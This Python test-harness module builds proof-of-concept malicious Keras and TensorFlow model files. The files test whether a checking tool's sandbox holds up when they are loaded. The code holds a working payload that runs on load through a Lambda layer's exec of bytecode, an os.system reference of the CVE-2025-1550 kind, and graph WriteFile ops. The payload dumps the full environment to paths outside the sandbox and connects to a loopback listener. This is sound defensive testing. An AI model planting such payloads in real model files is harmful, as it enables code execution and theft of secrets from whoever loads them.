"""Proof-of-concept model files that try to act outside `check`'s sandbox, built in real pinned cells.

Each file carries a payload that, wherever it runs, writes a marker (with the environment it saw) to a given
path outside any sandbox, to its HOME, its working folder and its TMPDIR, and connects to a listener on the
loopback address. The files are built with the payload inert (`MASKCOMPAT_POC_INERT=1`: Keras runs a Lambda
while building the model), so only loading can set it off.

- `lambda.h5`: a Keras 2.15 `.h5` whose Lambda is a Python lambda (marshalled bytecode);
- `nested-lambda.keras`: a Keras 3.0 `.keras` with that Lambda inside a TimeDistributed wrapper;
- `outside.keras`: a Keras 3.0 `.keras` whose Lambda's function references `os.system` (CVE-2025-1550's way: a
  release that resolves it calls it while rebuilding the model, and fails with "system() argument ...");
- `writefile-savedmodel`: a TensorFlow 2.21 SavedModel whose serving function holds two WriteFile ops, one to a
  relative path (its working folder) and then one to the outside path.

Three more serve `experiments/security/trust.py`: the Lambda and the `os.system` reference in `.keras` files of
Keras 2.15, and a Keras 3.0 `.keras` whose Lambda references the module `this` (importing it prints the Zen of
Python into the child's log).
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

from harness.decl import cells
from harness.runner import envs

ROOT = Path(__file__).resolve().parent.parent
MARKER = "maskcompat-marker"
BUILT_IN = {  # file -> the cell that saves it (Keras 3.0 files load, as far as their content allows, on every Keras 3)
    "lambda.h5": "tf2.15.1-keras2.15.0",
    "nested-lambda.keras": "tf2.16.2-keras3.0.5",
    "outside.keras": "tf2.16.2-keras3.0.5",
    "writefile-savedmodel": "tf2.21.0-keras3.15.1",
    # for experiments/security/trust.py: a Keras 2 `.keras` with the Lambda, one with os.system, and an import
    "keras2-lambda.keras": "tf2.15.1-keras2.15.0",
    "keras2-outside.keras": "tf2.15.1-keras2.15.0",
    "imports-this.keras": "tf2.16.2-keras3.0.5",
}

BUILD = r'''
import json, os, sys, zipfile
out, what, outside, port = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
PAYLOAD = f"""
import json, os, socket, tempfile
if os.environ.get("MASKCOMPAT_POC_INERT") != "1":
    note = json.dumps({{"env": dict(os.environ), "cwd": os.getcwd()}})
    for p in [{outside!r}, os.path.join(os.path.expanduser("~"), "{MARKER}"), "{MARKER}",
              os.path.join(tempfile.gettempdir(), "{MARKER}")]:
        try:
            with open(p, "w") as fh:
                fh.write(note)
        except OSError:
            pass
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=3).close()
    except OSError:
        pass
"""
code = eval("lambda x: (exec(" + repr(PAYLOAD) + ", {}), x)[1]")
path = os.path.join(out, what)
target = ("this", "s") if what == "imports-this.keras" else ("os", "system")
if what in ("lambda.h5", "keras2-lambda.keras", "keras2-outside.keras"):
    import tensorflow as tf
    keras = tf.keras
    def absolute(x):
        return x * 1.0
    first = keras.layers.Lambda(absolute if "outside" in what else code, input_shape=(6, 4))
    keras.Sequential([first, keras.layers.Dense(2)]).save(path)
elif what == "nested-lambda.keras":
    import keras
    L = keras.layers
    keras.Sequential([keras.Input((6, 4)), L.TimeDistributed(L.Lambda(code)), L.Dense(2)]).save(path)
elif what in ("outside.keras", "imports-this.keras"):
    import keras
    keras.Sequential([keras.Input((6, 4)), keras.layers.Lambda(keras.ops.abs), keras.layers.Dense(2)]).save(path)
elif what == "writefile-savedmodel":
    import tensorflow as tf
    class Writer(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, None, 4], tf.float32)])
        def serve(self, x):
            inside = tf.io.write_file("{MARKER}", "written by the graph")
            with tf.control_dependencies([inside]):
                there = tf.io.write_file(outside, "written by the graph")
            with tf.control_dependencies([there]):
                return {"output_0": tf.reduce_sum(x, axis=[1, 2])[:, None]}
    m = Writer()
    m.__call__ = m.serve  # Keras 2's load_model returns the restored object: it must be callable
    tf.saved_model.save(m, path, signatures={"serving_default": m.serve, "serve": m.serve})
if "outside" in what or "imports" in what:  # the Lambda's function: a reference to a module outside Keras
    with zipfile.ZipFile(path) as z:
        members = {n: z.read(n) for n in z.namelist()}
    cfg = json.loads(members["config.json"])
    lam = next(layer for layer in cfg["config"]["layers"] if layer["class_name"] == "Lambda")["config"]
    if isinstance(lam["function"], dict):
        lam["function"] = {"module": target[0], "class_name": "function", "config": target[1],
                           "registered_name": target[1]}
    else:  # the legacy layout: the function's name, and its module beside it
        lam.update(function=target[1], module=target[0], function_type="function")
    members["config.json"] = json.dumps(cfg).encode()
    with zipfile.ZipFile(path, "w") as z:
        for n, b in members.items():
            z.writestr(n, b)
'''.replace("{MARKER}", MARKER)


def build(folder: Path, outside: Path, port: int, names: list[str] | None = None) -> dict[str, Path]:
    """The files, saved in their cells with the payload inert; `outside` is the path the payload aims at."""
    matrix = cells.load(ROOT / "cells" / "cells.toml")
    made = {}
    for name in names or list(BUILT_IN):
        cell = matrix.get(BUILT_IN[name])
        python = envs.install(cell, check=True).python
        env = {k: v for k, v in os.environ.items() if not k.startswith(("KERAS", "TF_USE"))}
        env.update(cell.env, TF_CPP_MIN_LOG_LEVEL="3", PYTHONPATH="", MASKCOMPAT_POC_INERT="1")
        proc = subprocess.run([python, "-c", BUILD, str(folder), name, str(outside), str(port)], env=env,
                              capture_output=True, text=True, timeout=600, cwd=folder)  # fmt: skip
        assert proc.returncode == 0, proc.stderr[-3000:]
        made[name] = folder / name
    return made
